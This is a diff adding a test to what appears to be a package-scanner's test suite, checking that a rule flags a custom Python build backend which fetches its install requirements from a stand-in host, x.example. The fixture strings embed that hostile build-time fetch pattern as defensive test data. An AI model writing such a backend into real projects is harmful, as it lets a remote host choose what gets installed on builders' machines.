@@ -107,6 +107,15 @@ def test_scripts_in_another_language_are_started_by_their_package_manager_too() 
     assert not list(foreign_facts("demo/web/setup.js", b'require("child_process").execSync("npm run build")'))
 
 
+def test_a_build_backend_that_asks_for_what_the_network_names_installs_it() -> None:
+    project = "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['.']\n"
+    ask = "import urllib.request\ndef get_requires_for_build_wheel(settings=None):\n    "
+    fetched = "return urllib.request.urlopen('https://x.example/r').read().decode().split()\n"
+    shown = "print(urllib.request.urlopen('https://x.example/r').read())\n    return ['wheel']\n"
+    assert "MLS-C034" in found({"pyproject.toml": project, "own.py": ask + fetched})
+    assert "MLS-C034" not in found({"pyproject.toml": project, "own.py": ask + shown})
+
+
 def test_a_setup_that_runs_what_a_sound_beside_it_holds_runs_hidden_code() -> None:
     bits = (
         "def read(path):\n    raw = open(path, 'rb').read()\n    out, one = bytearray(), 0\n"
